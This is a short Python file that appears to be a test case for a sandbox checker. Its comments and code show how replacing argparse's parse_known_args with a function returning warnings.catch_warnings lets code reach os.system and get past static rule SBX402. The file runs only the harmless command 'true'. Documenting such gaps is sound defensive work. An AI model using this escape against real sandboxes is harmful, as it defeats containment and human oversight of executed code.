# family: open_classes
# reaches: process
# layer: static
# static: missed
# SBX402 admits vars() of what parser.parse_args([]) returns (an argparse.Namespace) unless the
# program replaces parse_args itself. Route: parse_args returns the first item of
# self.parse_known_args(...); the program replaces parse_known_args on the parser, returning a
# warnings.catch_warnings(); vars() of it hands out _module, whose sys.modules holds os.
import argparse
import warnings


def known(args=None, namespace=None):
    return warnings.catch_warnings(), []


parser = argparse.ArgumentParser(description="report builder")
parser.add_argument("--verbose", action="store_true")
parser.parse_known_args = known
options = parser.parse_args([])
fields = vars(options)
print(sorted(fields))
host = fields["_module"]
host.sys.modules["os"].system("true")
